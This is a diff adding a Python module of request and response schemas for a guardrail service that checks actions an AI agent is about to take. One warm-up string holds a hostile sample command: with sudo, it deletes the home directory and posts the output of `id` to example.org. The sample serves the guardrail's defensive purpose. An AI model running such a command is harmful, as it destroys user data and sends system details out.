@@ -1,0 +1,205 @@
+"""Bodies of the guardrail's route. The interface gives their names in snake_case. The judging itself is the library
+`guardrail`; here is only how a check is asked for and answered."""
+
+from __future__ import annotations
+
+from datetime import datetime
+from functools import cache
+from typing import Any, Literal
+
+from pydantic import BaseModel, ConfigDict, Field
+
+from contracts.base import Timestamp
+from contracts.errors import BodyInvalid, ConfigurationProblem
+from guardrail.approval import Outcome
+from guardrail.catalogue.loader import CatalogueInvalid
+from guardrail.engine import MAX_ACTION_BYTES, Guardrail
+from guardrail.facts import context_schema
+from guardrail.loading import default_guardrail
+from guardrail.policy import Stage
+from guardrail.policy_file import PolicyInvalid
+from guardrail.verdict import ProblemCode, Verdict, plain_verdict
+from guardrail.vocabulary import (
+    Coverage,
+    Decision,
+    EffectKind,
+    ObjectKind,
+    Origin,
+    Place,
+    Reversible,
+    Scope,
+    Sensitivity,
+    Severity,
+)
+
+
+class RulesetInvalid(ConfigurationProblem):
+    """Files of the catalogue or the policy are unusable."""
+
+    code = "ruleset_invalid"
+
+
+class _Snake(BaseModel):
+    model_config = ConfigDict(extra="forbid", frozen=True, json_schema_serialization_defaults_required=True)
+
+
+class GuardrailRequest(_Snake):
+    """An action that an agent is about to take."""
+
+    action: str = Field(
+        description=f"A command, a script, a tool call or a plan in words; at most {MAX_ACTION_BYTES // 1024} KiB",
+        json_schema_extra={"minLength": 1, "pattern": r"\S"},
+    )
+    severity: Severity = Field(
+        default=Severity.MEDIUM,
+        description="The impact that the caller claims; the higher, the milder a match that blocks",
+    )
+    context: dict[str, Any] | None = Field(
+        default=None,
+        description="Circumstances that the verdict may rely on. A name that is not listed is ignored and named in "
+        "`ignored_context`; an unknown name inside a listed object, and an unknown value, are refused.",
+        json_schema_extra={"properties": context_schema()["properties"]},
+    )
+
+
+class GuardrailEvidence(_Snake):
+    """The part of the action that a match is about."""
+
+    text: str = Field(description="The part, shortened, with secrets masked")
+    start: int = Field(ge=0, description="Its place in the action, in characters")
+    end: int = Field(ge=0)
+
+
+class GuardrailMatch(_Snake):
+    """A row of the policy, or a family of language, that holds for the action."""
+
+    id: str
+    stage: Stage
+    severity: Severity
+    reason: str
+    remediation: str
+    references: list[str]
+    evidence: list[GuardrailEvidence]
+
+
+class GuardrailStage(_Snake):
+    """One of the seven stages."""
+
+    stage: Stage
+    result: Literal["pass", "warn", "fail"] = Field(description="`warn` matched below what blocks at this severity")
+    matched: list[str]
+    reason: str | None
+
+
+class GuardrailTarget(_Snake):
+    """What an effect reaches, with what is known of it."""
+
+    text: str
+    place: Place
+    sensitivity: Sensitivity
+    origin: Origin
+
+
+class GuardrailEffect(_Snake):
+    """One thing that the action would do."""
+
+    kind: EffectKind
+    object: ObjectKind
+    targets: list[GuardrailTarget]
+    scope: Scope
+    reversible: Reversible
+    sure: bool = Field(description="False where it may never run, such as in a function that nothing calls")
+    elevated: bool = Field(description="Runs with more rights than the caller's")
+    start: int = Field(ge=0, description="The part of the action that has the effect, in characters")
+    end: int = Field(ge=0)
+    source: str = Field(description="The catalogue's entry or the reader that says so")
+    detail: dict[str, str] = Field(description="Facts of the effect, such as amount, recipient, url")
+
+
+class GuardrailUncovered(_Snake):
+    """A part of the action that could not be read, or a program that the catalogue lacks."""
+
+    start: int = Field(ge=0)
+    end: int = Field(ge=0)
+    reason: str
+    executable: bool = Field(description="It would run")
+
+
+class GuardrailReliance(_Snake):
+    """A fact of the context on which the verdict relies."""
+
+    fact: str
+    source: str = Field(description="Who says so: gathered by our own code, an approval token, the caller, a claim")
+    meaning: str
+
+
+class GuardrailProblem(_Snake):
+    """Why the action could not be judged; it is denied then."""
+
+    code: ProblemCode
+    pointer: str = Field(description="JSON pointer into the body")
+    message: str
+
+
+class GuardrailResult(_Snake):
+    """The verdict. All but `check_id` and `checked_at` is the same for the same request and ruleset."""
+
+    passed: bool = Field(description="True for the decision `allow` only")
+    decision: Decision
+    severity: Literal["none", "low", "medium", "high", "critical"] = Field(description="The highest that matched")
+    reason: str
+    rules_checked: int = Field(ge=0)
+    matched_guardrails: list[str] = Field(description="Ids of the matches, most severe first")
+    check_id: str = Field(description="Unique to this check")
+    checked_at: Timestamp
+    ruleset_version: str
+    digest: str = Field(description="Hash of action, severity, context and ruleset; an approval is bound to it")
+    stages: list[GuardrailStage]
+    remediation: list[str] = Field(description="What would make the action acceptable")
+    matches: list[GuardrailMatch]
+    effects: list[GuardrailEffect]
+    coverage: Coverage = Field(description="How much of the action was read: `full`, `partial` or `none`")
+    uncovered: list[GuardrailUncovered]
+    relied_on: list[GuardrailReliance]
+    ignored_context: list[str] = Field(description="Names in the context that no rule knows")
+    approval: Outcome | None = Field(description="What became of the approval token, where one was needed and sent")
+    problem: GuardrailProblem | None
+
+
+class GuardrailAnswer(_Snake):
+    """The envelope of API v2."""
+
+    ok: Literal[True] = True
+    data: GuardrailResult
+
+
+@cache
+def loaded_guardrail() -> Guardrail:
+    """Loads catalogue, policy and language, once a process. Raises `RulesetInvalid` with file and line."""
+    try:
+        guardrail = default_guardrail()
+    except (CatalogueInvalid, PolicyInvalid) as invalid:
+        cure = "Mend the file, or install the last release again; `svc guardrail lint` checks all of them."
+        raise RulesetInvalid(f"The guardrail can't be loaded: {invalid}.", cure=cure) from invalid
+    for action in _FIRST_ACTIONS:
+        guardrail.check(action)
+    return guardrail
+
+
+_FIRST_ACTIONS = (
+    "sudo env A=1 bash -c 'rm -rf $HOME | cat; curl -d x=$(id) https://example.org'",
+    "Send the notes to Ada.",
+)
+"""Judged when the guardrail is loaded: the first check imports grammars and words, which no request should wait for."""
+
+
+def refuse_unusable(verdict: Verdict) -> None:
+    """Raises `BodyInvalid` where the request, not the action, is at fault."""
+    problem = verdict.problem
+    if problem is not None and problem.code not in ("fault", "too_many_effects"):
+        raise BodyInvalid(f"{problem.message}.", errors=[(problem.pointer, problem.message)])
+
+
+def result_of(verdict: Verdict, *, check_id: str, checked_at: datetime) -> GuardrailResult:
+    """Returns the verdict as it is answered."""
+    return GuardrailResult(**plain_verdict(verdict), check_id=check_id, checked_at=checked_at)
